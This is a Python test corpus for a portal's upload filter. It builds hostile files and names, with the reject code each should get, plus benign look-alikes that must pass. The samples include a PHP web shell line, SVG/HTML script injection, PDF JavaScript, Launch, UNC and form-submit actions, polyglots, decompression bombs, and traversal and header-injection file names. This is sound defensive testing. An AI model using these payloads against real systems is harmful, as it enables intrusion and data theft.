"""A corpus of bad uploads, built in code: wrong types, polyglots, sizes, names, active PDFs.

Every `Bad` case names the reject code and the message the applicant must see; every
`Renamed` case is a real document under a hostile name, accepted and stored under a
random name, with the name it is offered under when downloaded.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from urllib.parse import quote

LIMIT = 100 * 1024  # MAX_UPLOAD_BYTES for the corpus run
TOO_LARGE = "The file is larger than 0.097656 MB."  # 100 KiB, rounded down

BAD_TYPE = "Only PDF, JPEG and PNG files are accepted."
EMPTY = "The file is empty."
BAD_NAME = "The file name is not acceptable."
ACTIVE = "PDF files with scripts or embedded actions are not accepted."
UNREADABLE = (
    "The file could not be read. Save it again (for example, print it to PDF) and upload the copy."
)
TOO_COMPLEX = (
    "The file is too large or too complex to check. Save or scan it again as a simpler file."
)


# --- real, minimal files ----------------------------------------------------------------


def pdf(
    catalog: bytes = b"",
    objects: tuple[bytes, ...] = (),
    tail: bytes = b"",
    page: bytes = b"",
    free: int = 0,
) -> bytes:
    """A one-page PDF with an xref table; `objects` are numbered from 4 on.

    `page` goes into the page's dictionary; `free` adds that many free entries to the
    cross-reference table.
    """
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b">>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += tail
    xref = len(out)
    size = len(bodies) + 1 + free
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"0000000000 00001 f \n" * free
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def encrypted(data: bytes) -> bytes:
    """The PDF encrypted with a password to open it (AES-256)."""
    import pikepdf

    password = "a password the portal does not know"

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as document:
        document.save(out, encryption=pikepdf.Encryption(user=password, owner=password))
    return out.getvalue()


def scan(pages: int = 1, images: list[bytes] | None = None) -> bytes:
    """A scan: each page one greyscale JPEG drawn full page (`images`, one per page;
    by default the 8x8 one on each of `pages` pages)."""
    images = images if images is not None else [jpeg()] * pages
    count = len(images)
    kids = b" ".join(b"%d 0 R" % (3 + 3 * n) for n in range(count))
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
    ]
    drawing = b"q 595 0 0 842 0 0 cm /Im0 Do Q"
    for n, image in enumerate(images):
        frame = image.index(b"\xff\xc0") + 5
        height, width = struct.unpack(">HH", image[frame : frame + 4])
        bodies.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /XObject << /Im0 %d 0 R >> >> >>" % (5 + 3 * n, 4 + 3 * n)
        )
        bodies.append(
            stream(
                b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                b"/BitsPerComponent 8 /Filter /DCTDecode" % (width, height),
                image,
            )
        )
        bodies.append(stream(b"", drawing))
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return bytes(out)


def stream(dictionary: bytes, body: bytes) -> bytes:
    """A stream object's body (for `pdf(objects=...)`)."""
    return b"<< %s /Length %d >>\nstream\n" % (dictionary, len(body)) + body + b"\nendstream"


def object_stream(
    objects: dict[int, bytes], filters: bytes = b"/Filter /FlateDecode", typed: bool = True
) -> bytes:
    """An object stream (PDF 1.5) holding `objects`, compressed as `filters` says."""
    offsets, body = [], b""
    for number, text in objects.items():
        offsets.append(b"%d %d" % (number, len(body)))
        body += text + b"\n"
    header = b" ".join(offsets) + b"\n"
    raw = header + body
    if b"Flate" in filters:
        raw = zlib.compress(raw)
    if filters.count(b"Flate") == 2:
        raw = zlib.compress(raw)
    kind = b"/Type /ObjStm " if typed else b""
    return stream(kind + b"/N %d /First %d " % (len(objects), len(header)) + filters, raw)


def pdf_packed(
    packed: dict[int, bytes],
    catalog: bytes = b"",
    objects: dict[int, bytes] | None = None,
    filters: bytes = b"/Filter /FlateDecode",
    encode=zlib.compress,
    decoys: bytes = b"",
) -> bytes:
    """A PDF 1.5 found through a cross-reference stream, as readers find it.

    Objects 2 and 3 are the page tree; the catalogue (1) and `packed` sit inside one
    object stream (encoded by `encode`, declared as `filters`); `objects` are plain
    objects. `decoys` go into the body unreferenced: plain objects the cross-reference
    stream does not point at, which no reader uses.
    """
    packed = {1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>", **packed}
    plain = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        **(objects or {}),
    }
    container = max([*packed, *plain]) + 1
    xref_number = container + 1
    header = b""
    body = b""
    for number, text in packed.items():
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    header += b"\n"
    plain[container] = stream(
        b"/Type /ObjStm /N %d /First %d " % (len(packed), len(header)) + filters,
        encode(header + body),
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + decoys)
    offsets = {}
    for number, text in sorted(plain.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    size = xref_number + 1
    index = {number: at for at, number in enumerate(packed)}
    rows = []
    for number in range(size):
        if number in offsets:
            rows.append(struct.pack(">BII", 1, offsets[number], 0))
        elif number in packed:
            rows.append(struct.pack(">BII", 2, container, index[number]))
        elif number == xref_number:
            rows.append(struct.pack(">BII", 1, len(out), 0))
        else:
            rows.append(struct.pack(">BII", 0, 0, 65535))
    xref_at = len(out)
    out += b"%d 0 obj\n" % xref_number
    out += stream(b"/Type /XRef /Size %d /W [1 4 4] /Root 1 0 R" % size, b"".join(rows))
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def update(base: bytes, objects: dict[int, bytes]) -> bytes:
    """`base` (from pdf()) with an incremental update replacing or adding `objects`."""
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    size = int(base.rsplit(b"/Size ", 1)[1].split()[0])
    out = bytearray(base)
    offsets = {}
    for number, text in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for number, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    size = max(size, max(objects) + 1)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        previous,
        xref,
    )
    return bytes(out)


def hex_encode(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def png_rows(data: bytes, columns: int = 8) -> bytes:
    """Flate with the PNG "None" predictor on each row of `columns` bytes."""
    data += b" " * (-len(data) % columns)
    rows = [data[at : at + columns] for at in range(0, len(data), columns)]
    return zlib.compress(b"".join(b"\x00" + row for row in rows))


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*extra_chunks: bytes) -> bytes:
    """A 1x1 white PNG."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    pixels = png_chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(extra_chunks) + pixels + png_chunk(b"IEND", b"")


def png_sized(width: int, height: int, complete: bool | None = None) -> bytes:
    """A grey PNG of this size; unless `complete`, past 50 million pixels only its first
    row is there (enough for a bomb: the size alone is refused)."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    row = b"\x00" + b"\x80" * min(width, 65536)
    if complete is None:
        complete = width * height <= 50_000_000
    rows = height if complete else 1
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(rows)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + header + png_chunk(b"IDAT", pixels) + png_chunk(b"IEND", b"")


def jpeg_sized(width: int, height: int) -> bytes:
    """The 8x8 JPEG with another size in its frame header (its one block is all there is)."""
    return jpeg().replace(b"\x08\x00\x08\x00\x08\x01", struct.pack(">BHHB", 8, height, width, 1))


def deflate_bomb(size: int, rounds: int) -> bytes:
    """`size` spaces (a multiple of 1 MiB) as zlib data, deflated `rounds` times.

    Deflating a gigabyte takes seconds, so one mebibyte is deflated and its compressed
    form repeated: after a sync flush the window holds only spaces, so the same bytes
    decode to the same mebibyte each time.
    """
    block = b" " * (1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(block) + compressor.flush(zlib.Z_SYNC_FLUSH)
    again = compressor.compress(block) + compressor.flush(zlib.Z_SYNC_FLUSH)
    checksum = 1
    for _ in range(size // len(block)):
        checksum = zlib.adler32(block, checksum)
    body = first + again * (size // len(block) - 1) + compressor.flush()
    data = b"\x78\xda" + body + struct.pack(">I", checksum)
    for _ in range(rounds - 1):
        data = zlib.compress(data, 9)
    return data


def jpeg() -> bytes:
    """An 8x8 mid-grey baseline JPEG (decodes with djpeg).

    One component, all-ones quantisation, and Huffman tables with a single one-bit
    code each: DC difference category 0, AC end-of-block. The scan is "0" + "0",
    padded with ones: 0x3F.
    """

    def segment(marker: int, payload: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload

    one_code = bytes([1] + [0] * 15) + b"\x00"
    return b"".join(
        [
            b"\xff\xd8",
            segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"),
            segment(0xDB, b"\x00" + b"\x01" * 64),
            segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00"),
            segment(0xC4, b"\x00" + one_code),
            segment(0xC4, b"\x10" + one_code),
            segment(0xDA, b"\x01\x01\x00\x00\x3f\x00"),
            b"\x3f",
            b"\xff\xd9",
        ]
    )


def jpeg_with_comment(comment: bytes) -> bytes:
    """The JPEG with a COM segment right after its start marker."""
    return jpeg()[:2] + struct.pack(">BBH", 0xFF, 0xFE, len(comment) + 2) + comment + jpeg()[2:]


def jar() -> bytes:
    """A ZIP with a Java manifest and a class: what a GIFAR appends."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: X\n")
        archive.writestr("X.class", b"\xca\xfe\xba\xbe" + b"\x00" * 64)
    return out.getvalue()


EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + (b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00L\x01\x03\x00" + b"\x00" * 200)
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body><script>fetch('/my/requests')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">'
    b"<script>alert(document.domain)</script></svg>"
)
PHP = b"<?php system($_GET['c']); ?>"
PADDING = b"%" + b"-" * 2000 + b"\n"  # pushes a payload past the first kilobyte
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00"
    b"!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)


# --- the cases ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Bad:
    """An upload that must be refused with `code` and `message`, and change nothing."""

    id: str
    data: bytes
    filename: str
    code: str
    message: str


@dataclass(frozen=True)
class Renamed:
    """A real document under a hostile name: accepted, offered as `download`."""

    id: str
    data: bytes
    filename: str
    shown: str  # the name kept and listed
    download: str  # the name in Content-Disposition


def _bad_types() -> list[Bad]:
    cases = {
        "exe-as-pdf": (EXE, "invoice.pdf"),
        "exe-as-jpg": (EXE, "photo.jpg"),
        "elf-as-png": (ELF, "scan.png"),
        "elf-as-pdf": (ELF, "charter.pdf"),
        "html-as-pdf": (HTML, "charter.pdf"),
        "html-as-jpg": (HTML, "photo.jpg"),
        "zip-as-pdf": (jar(), "charter.pdf"),
        "jar-as-png": (jar(), "scan.png"),
        "svg-script-as-png": (SVG, "scan.png"),
        "svg-script-as-pdf": (SVG, "charter.pdf"),
        "gif-as-png": (GIF, "scan.png"),
        "text-as-pdf": (b"Dear sir, please find attached.\n", "letter.pdf"),
        "whitespace-only": (b" \n\t\r\n   ", "blank.pdf"),
        "double-extension-pdf-exe": (EXE, "charter.pdf.exe"),
        "double-extension-exe-pdf": (EXE, "charter.exe.pdf"),
        # Polyglots: a good header with something else inside or after it.
        "pdf-after-junk": (b"JUNK" * 64 + pdf(), "charter.pdf"),
        "html-then-pdf": (HTML + b"\n" + pdf(), "charter.pdf"),
        "gifar-png-plus-jar": (png() + jar(), "scan.png"),
        "jpeg-plus-jar": (jpeg() + jar(), "photo.jpg"),
        "pdf-plus-zip": (pdf() + jar(), "charter.pdf"),
        "png-html-in-first-kb": (
            png(png_chunk(b"tEXt", b"c\x00<html><script>x</script>")),
            "a.png",
        ),
        "png-plus-html-after-first-kb": (
            png(png_chunk(b"tEXt", b"c\x00" + PADDING)) + HTML,
            "scan.png",
        ),
        "jpeg-trailing-php": (jpeg() + b"\n" * 1100 + PHP, "photo.jpg"),
        "jpeg-comment-php-after-first-kb": (jpeg_with_comment(b" " * 2000 + PHP), "photo.jpg"),
        "pdf-with-script-tag-after-first-kb": (pdf(tail=PADDING + b"%<script src=//x>\n"), "a.pdf"),
    }
    return [Bad(id, data, name, "bad_type", BAD_TYPE) for id, (data, name) in cases.items()]


def _active_pdfs() -> list[Bad]:
    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    catalogs = {
        "pdf-openaction-javascript": b"/OpenAction " + action,
        "pdf-js-only": b"/OpenAction << /S /Foo /JS (x) >>",
        "pdf-additional-actions-aa": b"/AA << /WC << /S /Named /N /Print >> >>",
        "pdf-launch": b"/OpenAction << /S /Launch /F (cmd.exe) >>",
        "pdf-embedded-file": b"/X << /Type /EmbeddedFile >>",
        "pdf-richmedia": b"/X << /Subtype /RichMedia >>",
        "pdf-hex-escaped-javascript": b"/OpenAction << /S /J#61vaScript /J#53 (x) >>",
        "pdf-fully-hex-escaped": b"/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 >>",
        "pdf-hex-escaped-aa": b"/A#41 << >>",
        "pdf-openaction-uri": b"/OpenAction << /S /URI /URI (https://tracker.example/x) >>",
        "pdf-openaction-gotor-unc": b"/OpenAction << /S /GoToR /F (//evil/share/x.pdf) >>",
        "pdf-openaction-submitform": b"/OpenAction << /S /SubmitForm /F (https://x.example) >>",
        "pdf-openaction-goto-then-uri": (
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x) >> >>"
        ),
        "pdf-openaction-goto-string-hiding-next": (
            b"/OpenAction << /S /GoTo /T (>>) /D [3 0 R /Fit] /Next << /S /URI /URI (x) >> >>"
        ),
    }
    cases = [
        Bad(id, pdf(catalog), "a.pdf", "active_content", ACTIVE) for id, catalog in catalogs.items()
    ]
    hidden = {5: action}
    uri = b"<< /S /URI /URI (https://tracker.example/x) >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A %s >>"
    page_with = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [5 0 R] >>"
    more = {
        "pdf-names-javascript": pdf(
            b"/Names << /JavaScript 4 0 R >>", objects=(b"<< /Names [(x) 5 0 R] >>", action)
        ),
        "pdf-embedded-files": pdf(
            b"/Names << /EmbeddedFiles 4 0 R >>", objects=(b"<< /Names [] >>",)
        ),
        "pdf-xfa": pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", objects=(b"[]",)),
        "pdf-openaction-indirect-uri": pdf(b"/OpenAction 4 0 R", objects=(uri,)),
        "pdf-javascript-in-later-object": pdf(objects=(action,)),
        "pdf-link-javascript-uri": pdf(
            objects=(b"[]", link % b"<< /S /URI /URI (javascript:alert(1)) >>"),
            tail=b"3 0 obj\n" + page_with + b"\nendobj\n",
        ),
        "pdf-link-file-uri-with-spaces": pdf(
            objects=(b"[]", link % b"<< /S /URI /URI ( F i l e :///etc/passwd) >>"),
            tail=b"3 0 obj\n" + page_with + b"\nendobj\n",
        ),
        "pdf-link-importdata": pdf(
            objects=(b"[]", link % b"<< /S /ImportData /F (data.fdf) >>"),
        ),
        "pdf-file-attachment-annotation": pdf(
            objects=(b"<< /Type /Annot /Subtype /FileAttachment /FS 5 0 R >>", b"<< >>")
        ),
        # Inside a real object stream, found through a cross-reference stream.
        "pdf-objstm-flate-javascript": pdf_packed(hidden, b"/OpenAction 5 0 R"),
        "pdf-objstm-unreferenced-javascript": pdf_packed(hidden),
        "pdf-objstm-double-flate-javascript": pdf_packed(
            hidden,
            filters=b"/Filter [/FlateDecode /Fl]",
            encode=lambda data: zlib.compress(zlib.compress(data)),
        ),
        "pdf-objstm-chained-filters-javascript": pdf_packed(
            hidden,
            filters=b"/Filter [/ASCIIHexDecode /FlateDecode]",
            encode=lambda data: hex_encode(zlib.compress(data)),
        ),
        "pdf-objstm-openaction-uri": pdf_packed({5: uri}, b"/OpenAction 5 0 R"),
        "pdf-objstm-hex-filter": pdf_packed(
            hidden, filters=b"/Filter /ASCIIHexDecode", encode=hex_encode
        ),
        "pdf-objstm-predictor": pdf_packed(
            hidden,
            filters=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>",
            encode=png_rows,
        ),
        # The catalogue itself in an object stream, its /OpenAction a JavaScript action, and
        # a harmless-looking plain catalogue and object 5 in the body as decoys.
        "pdf-objstm-hidden-openaction": pdf_packed(
            hidden,
            b"/OpenAction 5 0 R",
            decoys=(
                b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>\nendobj\n"
                b"5 0 obj\n[3 0 R /Fit]\nendobj\n"
            ),
        ),
        # An incremental update that adds JavaScript to a clean file.
        "pdf-incremental-update-adds-javascript": update(
            pdf(), {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", 4: action}
        ),
        "pdf-incremental-update-adds-launch-link": update(
            pdf(), {3: page_with.replace(b"5 0 R", b"4 0 R"), 4: link % b"<< /S /Launch >>"}
        ),
    }
    return cases + [Bad(id, data, "a.pdf", "active_content", ACTIVE) for id, data in more.items()]


def _unreadable_or_too_complex() -> list[Bad]:
    """Files a reader cannot make sense of, or not within the check's time and memory."""
    unreadable = {
        "pdf-header-only": b"%PDF-1.7\n" + b"% nothing else\n" * 10,
        "pdf-garbage-after-header": b"%PDF-1.4\n" + bytes(range(256)) * 40,
        "pdf-encrypted-with-password": encrypted(pdf()),
        "png-truncated": png_sized(64, 64)[:-40],
        "jpeg-truncated-header": jpeg()[:30],
    }
    bombs = {
        # Dimensions past the pixel limit: refused before a pixel is decoded.
        "png-bomb-30000-square": png_sized(30000, 30000),
        "png-bomb-1-by-2-billion": png_sized(1, 2_000_000_000),
        "jpeg-bomb-65000-square": jpeg_sized(65000, 65000),
    }
    return [
        *(Bad(id, data, "a.pdf", "unreadable", UNREADABLE) for id, data in unreadable.items()),
        *(Bad(id, data, "a.pdf", "too_complex", TOO_COMPLEX) for id, data in bombs.items()),
    ]


def _sizes_and_names() -> list[Bad]:
    good = pdf()
    oversize = good + b"%" + b"0" * (LIMIT - len(good))
    assert len(oversize) == LIMIT + 1
    return [
        Bad("empty", b"", "charter.pdf", "empty", EMPTY),
        Bad("oversize-by-one-byte", oversize, "charter.pdf", "too_large", TOO_LARGE),
        Bad("oversize-exe", EXE * (LIMIT // len(EXE) + 1), "charter.pdf", "too_large", TOO_LARGE),
        Bad("name-with-nul", good, "a\x00.pdf", "bad_name", BAD_NAME),
        Bad("name-with-nul-before-exe", good, "charter.pdf\x00.exe", "bad_name", BAD_NAME),
        Bad("name-of-300-characters", good, "x" * 296 + ".pdf", "bad_name", BAD_NAME),
        Bad("name-of-300-cyrillic-letters", good, "я" * 300, "bad_name", BAD_NAME),
        Bad("name-only-dots-and-slashes", good, "../..", "bad_name", BAD_NAME),
        Bad("name-only-controls", good, "\x01\x02\u202e\u200b", "bad_name", BAD_NAME),
    ]


BAD: list[Bad] = [
    *_bad_types(),
    *_active_pdfs(),
    *_unreadable_or_too_complex(),
    *_sizes_and_names(),
]


def _renamed() -> list[Renamed]:
    good = pdf()
    return [
        Renamed("posix-traversal", good, "../../etc/passwd.pdf", "passwd.pdf", "passwd.pdf"),
        Renamed("windows-traversal", good, "..\\..\\win.pdf", "win.pdf", "win.pdf"),
        Renamed("absolute-path", good, "/etc/x.pdf", "x.pdf", "x.pdf"),
        Renamed("fullwidth-solidus", good, "..\uff0f..\uff0fx.pdf", "x.pdf", "x.pdf"),
        Renamed(
            "header-injection",
            good,
            "a.pdf\r\nSet-Cookie: x=1\r\n\r\n<b>x.pdf",
            "a.pdf Set-Cookie_ x=1 _b_x.pdf",
            "a.pdf Set-Cookie_ x=1 _b_x.pdf",
        ),
        Renamed(
            "quote-and-semicolon",
            good,
            'a";filename=evil.exe',
            "a_;filename=evil.exe",
            "a_;filename=evil.exe.pdf",
        ),
        Renamed(
            "rtl-override", good, "invoice\u202efdp.exe", "invoicefdp.exe", "invoicefdp.exe.pdf"
        ),
        Renamed("windows-device-name", good, "CON.pdf", "CON.pdf", "_CON.pdf"),
        Renamed(
            "double-extension-pdf-exe",
            good,
            "charter.pdf.exe",
            "charter.pdf.exe",
            "charter.pdf.exe.pdf",
        ),
        Renamed("png-named-pdf", png(), "scan.pdf", "scan.pdf", "scan.pdf.png"),
        Renamed("decomposed-unicode", good, "e\u0301.pdf", "\u00e9.pdf", "\u00e9.pdf"),
        Renamed("kazakh-name", good, "Анықтама №5.pdf", "Анықтама №5.pdf", "Анықтама №5.pdf"),
        Renamed("long-name", good, "д" * 200 + ".pdf", "д" * 116 + ".pdf", "д" * 116 + ".pdf"),
        Renamed("tab-and-escape", good, "a\tb\x1b[31m.pdf", "a b[31m.pdf", "a b[31m.pdf"),
    ]


RENAMED: list[Renamed] = _renamed()

# Files that look odd to a filter but are fine: they must still go through.
GOOD: dict[str, bytes] = {
    "pdf-openaction-first-page": pdf(b"/OpenAction [3 0 R /Fit]"),
    "pdf-openaction-goto": pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "pdf-openaction-indirect-destination": pdf(b"/OpenAction 4 0 R", objects=(b"[3 0 R /Fit]",)),
    # A reference to an object that is not there is the null object (PDF 32000 7.3.10).
    "pdf-openaction-to-missing-object": pdf(b"/OpenAction 9 0 R"),
    "pdf-objstm-plain-objects": pdf_packed(
        {5: b"[3 0 R /FitH 0]", 6: b"<< /A 1 >>"}, b"/OpenAction 5 0 R"
    ),
    "pdf-flate-content": pdf(objects=(stream(b"/Filter /FlateDecode", zlib.compress(b"q Q")),)),
    # A compressed stream whose bytes read like objects is not an object stream: no reader
    # looks for objects in it, as no cross-reference entry points into it.
    "pdf-flate-stream-that-reads-like-objects": pdf(
        objects=(
            stream(
                b"/Filter /FlateDecode",
                zlib.compress(b"4 0 5 40\n<< /S /JavaScript /JS (app.alert(1)) >>"),
            ),
        )
    ),
    "pdf-https-and-mailto-links": pdf(
        page=b"/Annots [4 0 R 5 0 R]",
        objects=(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /URI /URI (https://egov.kz/services) >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [9 9 19 19] "
            b"/A << /S /URI /URI (mailto:akimat@example.kz) >> >>",
        ),
    ),
    "pdf-scan-with-images": scan(pages=3),
    # Inputs that made the old pattern scanner's cost grow with the square of the size.
    "pdf-quadratic-stream-keywords": pdf(tail=b"%stream\n" * 11_000),
    "pdf-quadratic-object-headers": pdf(tail=b"%1 0 obj stream\n" * 5_500),
    "pdf-quadratic-open-actions": pdf(
        b"/OpenAction [3 0 R /Fit]", tail=b"%/OpenAction 1 0 R\n" * 4_500
    ),
    "pdf-huge-xref-table": pdf(free=4_500),
    "png-scan-2000-by-3000": png_sized(2000, 3000),
}


def multipart(fields: dict[str, str], files: dict[str, tuple[bytes, str]]) -> tuple[bytes, str]:
    """A multipart/form-data body and its Content-Type, sending each file name exactly.

    Names a quoted string cannot carry (CR, LF, quotes, NUL) go as RFC 5987 filename*,
    which werkzeug decodes: so they reach the portal as sent.
    """
    boundary = "corpus-boundary-7f3a"
    out = bytearray()
    for name, value in fields.items():
        out += f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
        out += value.encode() + b"\r\n"
    for name, (data, filename) in files.items():
        if any(ch in filename for ch in '"\\\r\n\x00') or not filename.isascii():
            disposition = f"filename*=UTF-8''{quote(filename, safe='')}"
        else:
            disposition = f'filename="{filename}"'
        out += f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '.encode()
        out += disposition.encode() + b"\r\nContent-Type: application/octet-stream\r\n\r\n"
        out += data + b"\r\n"
    out += f"--{boundary}--\r\n".encode()
    return bytes(out), f"multipart/form-data; boundary={boundary}"
